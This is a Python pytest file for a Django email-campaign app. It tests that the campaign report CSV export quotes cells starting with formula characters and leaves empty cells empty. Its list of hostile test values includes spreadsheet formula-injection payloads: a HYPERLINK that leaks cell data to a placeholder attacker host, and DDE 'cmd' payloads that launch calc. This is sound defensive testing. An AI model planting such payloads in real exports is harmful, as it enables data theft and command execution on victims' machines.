"""Issue #12, Tests: the campaign report CSV neutralises formulas with the one helper every export
uses (contacts.imports.neutralise_cell), and leaves an empty cell empty (issue #14)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from contacts.imports import FORMULA_STARTS, neutralise_cell

pytestmark = pytest.mark.django_db

# What a recipient's address or a hostile relay's reply may start with (PostgreSQL text holds no NUL).
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A=1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", [*HOSTILE, "\0=1"])
def test_the_helper_quotes_every_owasp_formula_start(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", None, "plain", "ann@example.org", "3.5", "'already"])
def test_the_helper_leaves_harmless_cells_alone(value):
    assert neutralise_cell(value) == ("" if value is None else value)


def test_the_campaign_report_csv_neutralises_addresses_and_relay_replies(marketer_client, campaign_factory):
    from campaigns import services
    from delivery.models import Message

    campaign = campaign_factory(len(HOSTILE) + 1)
    services.campaign_start(campaign.pk)
    messages = list(Message.objects.order_by("id"))
    # Every hostile value once as an address (a sent message), once as a relay's reply to a refusal.
    for message, value in zip(messages, HOSTILE, strict=False):
        message.email = value + "@evil.example"
        message.state = "failed"
        message.smtp_reply = value
        message.save(update_fields=["email", "state", "smtp_reply"])
    plain = messages[-1]
    Message.objects.filter(pk=plain.pk).update(state="sent")

    response = marketer_client.get(reverse("campaigns:report-csv", args=[campaign.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    header, data = rows[0], rows[1:]
    assert len(data) == len(HOSTILE) + 1
    starts = [(cell[:12], cell[:1]) for row in data for cell in row if cell[:1] in FORMULA_STARTS]
    assert starts == [], f"cells a spreadsheet would run: {starts}"
    by_email = {row[0]: dict(zip(header, row, strict=True)) for row in data}
    for value in HOSTILE:
        row = by_email["'" + value + "@evil.example"]
        assert row["reason"] == "'" + value  # quoted, otherwise unchanged
    untouched = by_email[plain.email]
    # An empty cell stays empty: no lone ' (issue #14).
    assert untouched["reason"] == "" and untouched["opened"] == "" and untouched["bounce"] == ""
    assert all(cell != "'" for row in data for cell in row)
